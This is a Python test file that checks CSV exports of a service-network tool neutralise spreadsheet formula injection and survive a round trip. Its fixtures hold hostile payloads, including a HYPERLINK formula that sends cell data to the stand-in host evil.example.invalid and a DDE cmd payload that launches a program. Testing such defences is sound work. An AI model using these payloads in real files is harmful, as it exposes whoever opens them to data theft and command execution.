"""CSV formula injection (issue 10 item 8): every CSV export writes a cell a spreadsheet
would run as a formula with a leading ``'`` (the workbook CSV's rule,
``importers.export.csv_row``), and the re-importable HSDS package reads it back exactly."""
from __future__ import annotations

import csv

import pytest

from graphmap.importers.formats import export_any, import_any
from tests.data import small_network

FORMULA = '=HYPERLINK("http://evil.example.invalid/?"&A1,"klikkaa")'
OTHERS = ["+SUM(1,2)", "-2+3*cmd|' /C calc'!A0", "@SUM(A1)", "\tTAB", "\rCR"]


def _hostile_network():
    net = small_network()
    net.units["kahvila"].name = FORMULA
    net.units["perheohjaus"].description = OTHERS[0]
    net.organisations["mll"].name = OTHERS[2]
    net.roles["po-sari"].person = OTHERS[1]
    net.roles["th-aino"].title = OTHERS[3]
    net.roles["sos-olli"].title = OTHERS[4]
    net.links[("neuvola", "perheohjaus", "refers")].note = "=1+1"
    return net


def _cells(folder):
    out = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            out += [(path.name, c) for row in csv.reader(fh) for c in row]
    return out


@pytest.mark.parametrize("fmt", ["hsds-csv", "neo4j-csv"])
def test_formula_cells_are_written_neutralised(tmp_path, fmt):
    export_any(_hostile_network(), tmp_path / "out", fmt)
    cells = _cells(tmp_path / "out")
    assert ("'" + FORMULA) in [c for _, c in cells]
    live = [(f, c) for f, c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not c.lstrip("+-").replace(" ", "").replace(".", "").isdigit()]
    assert live == []


def test_hsds_csv_round_trip_keeps_formula_text(tmp_path, store):
    export_any(_hostile_network(), tmp_path / "pkg", "hsds-csv")
    import_any(tmp_path / "pkg", store, "hsds")
    back = store.read()
    assert back.units["kahvila"].name == FORMULA
    assert back.units["perheohjaus"].description == OTHERS[0]
    assert back.organisations["mll"].name == OTHERS[2]
    assert back.roles["po-sari"].person == OTHERS[1]
    assert back.links[("neuvola", "perheohjaus", "refers")].note == "=1+1"
